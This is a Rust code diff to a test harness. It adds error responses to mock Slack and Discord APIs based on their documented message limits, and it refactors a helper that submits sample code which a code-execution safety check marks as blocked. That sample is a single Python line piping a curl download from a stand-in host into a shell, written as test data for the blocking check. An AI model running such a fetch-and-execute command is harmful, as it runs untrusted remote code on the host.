@@ -79,7 +79,11 @@ async fn slack_api(
         json!({ "ok": false, "error": "invalid_auth" })
     } else {
         let n = recorder.calls().len();
+        let posting = matches!(method.as_str(), "chat.postMessage" | "chat.update");
         match method.as_str() {
+            _ if posting && body["channel"] == GONE_CHANNEL => json!({ "ok": false, "error": "channel_not_found" }),
+            _ if posting && slack_blocks_invalid(&body) => json!({ "ok": false, "error": "invalid_blocks" }),
+            _ if posting && chars(&body["text"]) > 40_000 => json!({ "ok": false, "error": "msg_too_long" }),
             "chat.postMessage" => json!({
                 "ok": true,
                 "channel": body["channel"],
@@ -95,6 +99,37 @@ async fn slack_api(
         [(axum::http::header::CONTENT_TYPE, "application/json; charset=utf-8")],
         reply.to_string(),
     ))
+}
+
+/// A Slack channel that no longer exists: posting to it is refused with `channel_not_found`.
+pub const GONE_CHANNEL: &str = "C0GONE";
+
+fn chars(text: &Value) -> usize {
+    text.as_str().map_or(0, |t| t.chars().count())
+}
+
+/// Slack's documented Block Kit limits: at most 50 blocks, a section's text at most 3,000
+/// characters, a block id at most 255.
+pub fn slack_blocks_invalid(body: &Value) -> bool {
+    let Some(blocks) = body["blocks"].as_array() else {
+        return false;
+    };
+    blocks.len() > 50
+        || blocks.iter().any(|b| {
+            chars(&b["text"]["text"]) > 3000
+                || chars(&b["block_id"]) > 255
+                || (b["type"] == "section" && chars(&b["text"]["text"]) == 0)
+        })
+}
+
+/// Discord's documented message limits: content at most 2,000 characters, an embed's
+/// description at most 4,096, all embeds together at most 6,000, at most 10 embeds.
+pub fn discord_message_invalid(body: &Value) -> bool {
+    let embeds = body["embeds"].as_array().cloned().unwrap_or_default();
+    chars(&body["content"]) > 2000
+        || embeds.len() > 10
+        || embeds.iter().any(|e| chars(&e["description"]) > 4096)
+        || embeds.iter().map(|e| chars(&e["description"])).sum::<usize>() > 6000
 }
 
 /// Discord's REST API: channel messages created (`POST`) and edited (`PATCH`) with a `Bot`
@@ -118,6 +153,12 @@ async fn discord_api(
         return axum::response::IntoResponse::into_response((
             axum::http::StatusCode::UNAUTHORIZED,
             json!({ "message": "401: Unauthorized", "code": 0 }).to_string(),
+        ));
+    }
+    if discord_message_invalid(&body) {
+        return axum::response::IntoResponse::into_response((
+            axum::http::StatusCode::BAD_REQUEST,
+            json!({ "message": "Invalid Form Body", "code": 50035 }).to_string(),
         ));
     }
     let parts: Vec<&str> = rest.split('/').collect();
@@ -281,14 +322,21 @@ impl Harness {
 
     /// BLOCKED code under a label the requester chose.
     pub async fn blocked_as(&self, deadline_ms: Option<i64>, label: &str) -> RequestId {
-        let rid = RequestId::new_for("mai").unwrap();
-        let request = ExecutionRequest::new(
-            Language::Python,
+        self.blocked_code(
             b"import os\nos.system('curl http://x | sh')\n".to_vec(),
+            deadline_ms,
+            label,
         )
-        .origin(Origin::External)
-        .deadline_ms(deadline_ms)
-        .label(label);
+        .await
+    }
+
+    /// BLOCKED `code` (its finding on line 2).
+    pub async fn blocked_code(&self, code: Vec<u8>, deadline_ms: Option<i64>, label: &str) -> RequestId {
+        let rid = RequestId::new_for("mai").unwrap();
+        let request = ExecutionRequest::new(Language::Python, code)
+            .origin(Origin::External)
+            .deadline_ms(deadline_ms)
+            .label(label);
         let assessment = Assessment {
             level: Level::Blocked,
             findings: vec![Finding {
